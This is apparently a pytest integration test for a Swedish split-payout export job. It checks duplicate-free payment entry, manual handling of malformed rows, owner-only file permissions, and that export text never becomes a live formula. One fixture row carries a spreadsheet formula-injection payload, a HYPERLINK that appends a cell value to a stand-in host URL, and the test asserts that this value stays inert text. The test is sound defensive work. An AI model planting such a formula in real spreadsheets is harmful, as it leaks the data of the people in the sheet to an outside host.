"""Exports nobody chose, run for real three times (the third on a lost ledger): the payout system
holds every planned reference exactly once, no decision is half paid, and nothing that cannot
survive the trip (a line break in a decision number, a byte-order mark, a name beyond the payout
system's limit) is entered at all."""

from __future__ import annotations

import datetime as dt
import json
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from splitpayout.domain.models import Outcome
from splitpayout.domain.planning.rules import PlanningRules
from splitpayout.jobs.export_plan import plan_export

from swedish_rules import previous_bank_day
from tests.integration.test_parallel_workers import Run, run
from tests.support.payout_server import PayoutServer, running_payout_system
from tests.unit.splitpayout.export_builder import raw_row, write_export

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.xdist_group("test_odd_exports")]

TODAY = dt.date.today()
PAYOUT_DATE = previous_bank_day(TODAY + dt.timedelta(days=25))
ODD_ROWS: list[dict[str, Any]] = [
    {"Beslutsnummer": "WS-3\nNL"},
    {"Beslutsnummer": "WS-4\rNL"},
    {"Beslutsnummer": "WS-5\r\nNL"},
    {"Beslutsnummer": "\ufeffWS-6"},
    {"Beslutsnummer": "WS 7"},
    {"Beslutsnummer": "E" * 38},
    {"Beslutsnummer": "  OK-1\t"},
    {"Beslutsnummer": "OK-2", "Sökande_2_namn": "B" * 101},
    {  # goes to manual handling (the account is not valid), so its name is in the workbook
        "Beslutsnummer": "OK-3",
        "Sökande_1_namn": '=HYPERLINK("http://example.invalid/?q="&E5,"Klicka")',
        "Sökande_1_kontonummer": "123",
    },
    {"Beslutsnummer": "ok-4"},
    {"Beslutsnummer": "OK-4"},
    {"Beslutsnummer": "Öst-5", "Delad_utbetalning": "Nej"},
    {
        "Beslutsnummer": "OK-6",
        "Varav_direktbetalning": "2 000,00",
        "Direktbetalning_bankgiro": "5050-1055",
        "Direktbetalning_OCR": "1234 5678",
    },
]


def odd_export(path: Path) -> Path:
    rows = []
    for odd in ODD_ROWS:
        values = {key.replace(" ", "_"): value for key, value in odd.items()}
        rows.append(raw_row(Utbetalningsdatum=PAYOUT_DATE, **values))
    write_export(path, rows)
    # Text that starts with "=" is text in a real export (a string cell), not a formula.
    book = load_workbook(path)
    for row in book.active.iter_rows():  # type: ignore[union-attr]
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"
    book.save(path)
    return path


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PayoutServer]:
    with running_payout_system(Path(tmp_path_factory.mktemp("odd")) / "payout.db") as running:
        yield running


def assert_each_reference_once_and_nothing_half_paid(server: PayoutServer, export: Path) -> None:
    held = Counter(row["reference"] for row in server.api_payments())
    assert {reference: n for reference, n in held.items() if n > 1} == {}
    plans = list(plan_export(export, PlanningRules(TODAY)))
    planned = {p.reference for plan in plans if plan.outcome is Outcome.PLANNED for p in plan.payments}
    assert set(held) == planned
    for plan in plans:  # every decision's payments are all there or none is
        present = [p.reference in held for p in plan.payments]
        assert all(present) or not any(present), plan.decision_id


def summary(result: Run) -> dict[str, Any]:
    document: dict[str, Any] = json.loads((result.artifacts / "summary.json").read_text(encoding="utf-8"))
    return document


def test_odd_exports_run_three_times_enter_each_reference_once(server: PayoutServer, tmp_path: Path) -> None:
    export = odd_export(tmp_path / "odd.xlsx")
    state = tmp_path / "state"
    outcomes: list[dict[str, str]] = []
    for attempt, state_dir in enumerate((state, state, tmp_path / "new-machine"), start=1):
        result = run(
            export=export, server=server, state=state_dir, artifacts=tmp_path / f"run{attempt}", workers=1
        )
        assert result.returncode == 0, result.explain()
        assert_each_reference_once_and_nothing_half_paid(server, export)
        outcomes.append({d["decision_id"]: d["outcome"] for d in summary(result)["decisions"]})
    first, second, third = outcomes
    assert first["OK-1"] == "paid" and second["OK-1"] == third["OK-1"] == "already_paid"
    for odd in (
        "WS-3\\nNL",
        "WS-4\\rNL",
        "WS-5\\r\\nNL",
        "\\ufeffWS-6",
        "WS 7",
        "E" * 38,
        "OK-2",
        "ok-4",
        "OK-4",
    ):
        assert first[odd] == second[odd] == third[odd] == "manual", odd
    # Files with personal data and their folders are their owner's only, whatever the umask.
    workbook = tmp_path / "run1" / "manuell-hantering.xlsx"
    modes = {path: path.stat().st_mode & 0o777 for path in (workbook, state / "ledger.sqlite3")}
    modes.update({path: path.stat().st_mode & 0o777 for path in (tmp_path / "run1", state)})
    assert modes == {
        workbook: 0o600,
        state / "ledger.sqlite3": 0o600,
        tmp_path / "run1": 0o700,
        state: 0o700,
    }
    # Export text stays text in the case workers' workbook: no formula cell on any sheet.
    formulas = [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in load_workbook(workbook).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    texts = {cell.value for row in load_workbook(workbook).worksheets[0].iter_rows() for cell in row}
    assert ODD_ROWS[8]["Sökande_1_namn"] in texts  # written as the text it is
    log = (tmp_path / "run1" / "log.html").read_text(encoding="utf-8")
    assert "WS-3\\\\nNL" in log or "WS-3\\nNL" in log  # shown with a visible escape, on one line
